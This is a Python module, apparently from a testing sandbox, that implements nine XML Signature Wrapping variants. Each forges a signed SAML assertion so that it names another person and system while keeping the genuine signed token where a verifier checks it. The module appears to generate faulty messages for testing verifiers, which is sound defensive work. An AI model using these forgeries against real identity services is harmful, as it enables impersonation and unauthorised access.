"""The wrapping attacks on signed assertions, after "On Breaking SAML" (2012) and the tools built on it.

Each leaves the genuine, signed token somewhere in the message for a careless verifier to find, and puts a forged one
where a careless reader looks.
"""

from __future__ import annotations

import copy
from typing import TYPE_CHECKING

from lxml import etree

from govfile.sandbox.sosi.building import declare, with_attributes
from govfile.sandbox.sosi.faults import Wrapping
from govfile.sandbox.sosi.names import tag
from govfile.sandbox.sosi.reading import child

if TYPE_CHECKING:
    from collections.abc import Callable

_FORGED = "forged"


def wrap(token: etree._Element, how: Wrapping) -> None:
    """Put a forged token into the message in place of `token`, and keep the genuine one as `how` says."""
    parent = token.getparent()
    assert parent is not None
    at = parent.index(token)
    parent.remove(token)
    _WAYS[how](parent, at, token)


def forged(token: etree._Element, *, keeps_signature: bool, same_id: bool = False) -> etree._Element:
    """A copy that names somebody else."""
    copied = copy.deepcopy(token)
    signature = child(copied, "ds:Signature")
    if not keeps_signature:
        copied.remove(signature)
    name_id = copied.find(f"{tag('saml:Subject')}/{tag('saml:NameID')}")
    if name_id is not None:
        name_id.text = "0909001234"
    for attribute in copied.iter(tag("saml:Attribute")):
        if any(word in (attribute.get("Name") or "").lower() for word in ("civilregistration", "cprnumber")):
            child(attribute, "saml:AttributeValue").text = "0909001234"
        if attribute.get("Name") == "medcom:ITSystemName":
            child(attribute, "saml:AttributeValue").text = "Forged System"
    if not same_id:
        copied.set("id" if copied.get("id") else "ID", _FORGED)
    return copied


def _unsigned(token: etree._Element) -> etree._Element:
    copied = copy.deepcopy(token)
    copied.remove(child(copied, "ds:Signature"))
    return copied


def _within(name: str, *content: etree._Element) -> etree._Element:
    made = etree.fromstring(with_attributes(name, declare([name.partition(":")[0]])).encode())
    made.extend(content)
    return made


def _xsw1(parent: etree._Element, at: int, token: etree._Element) -> None:
    """The genuine one, unsigned as it was digested, inside the signature that the forged one keeps at its beginning."""
    false = forged(token, keeps_signature=True)
    signature = child(false, "ds:Signature")
    signature.append(_unsigned(token))
    false.insert(1, signature)
    parent.insert(at, false)


def _xsw2(parent: etree._Element, at: int, token: etree._Element) -> None:
    signature = copy.deepcopy(child(token, "ds:Signature"))
    false = forged(token, keeps_signature=False)
    false.append(_unsigned(token))
    false.append(signature)
    parent.insert(at, false)


def _xsw3(parent: etree._Element, at: int, token: etree._Element) -> None:
    parent.insert(at, token)
    parent.insert(at, forged(token, keeps_signature=False))


def _xsw4(parent: etree._Element, at: int, token: etree._Element) -> None:
    false = forged(token, keeps_signature=False)
    false.append(token)
    parent.insert(at, false)


def _xsw5(parent: etree._Element, at: int, token: etree._Element) -> None:
    parent.insert(at, forged(token, keeps_signature=True))
    parent.insert(at + 1, _unsigned(token))


def _xsw6(parent: etree._Element, at: int, token: etree._Element) -> None:
    false = forged(token, keeps_signature=True)
    child(false, "ds:Signature").append(_unsigned(token))
    parent.insert(at, false)


def _xsw7(parent: etree._Element, at: int, token: etree._Element) -> None:
    parent.insert(at, token)
    parent.insert(at, _within("samlp:Extensions", forged(token, keeps_signature=False, same_id=True)))


def _xsw8(parent: etree._Element, at: int, token: etree._Element) -> None:
    false = forged(token, keeps_signature=True)
    child(false, "ds:Signature").append(_within("ds:Object", _unsigned(token)))
    parent.insert(at, false)


def _xsw10(parent: etree._Element, at: int, token: etree._Element) -> None:
    signature = copy.deepcopy(child(token, "ds:Signature"))
    signature.append(_within("ds:Object", token))
    parent.insert(at, signature)
    parent.insert(at, forged(token, keeps_signature=False))


_WAYS: dict[Wrapping, Callable[[etree._Element, int, etree._Element], None]] = {
    Wrapping.XSW1: _xsw1,
    Wrapping.XSW2: _xsw2,
    Wrapping.XSW3: _xsw3,
    Wrapping.XSW4: _xsw4,
    Wrapping.XSW5: _xsw5,
    Wrapping.XSW6: _xsw6,
    Wrapping.XSW7: _xsw7,
    Wrapping.XSW8: _xsw8,
    Wrapping.XSW10: _xsw10,
}
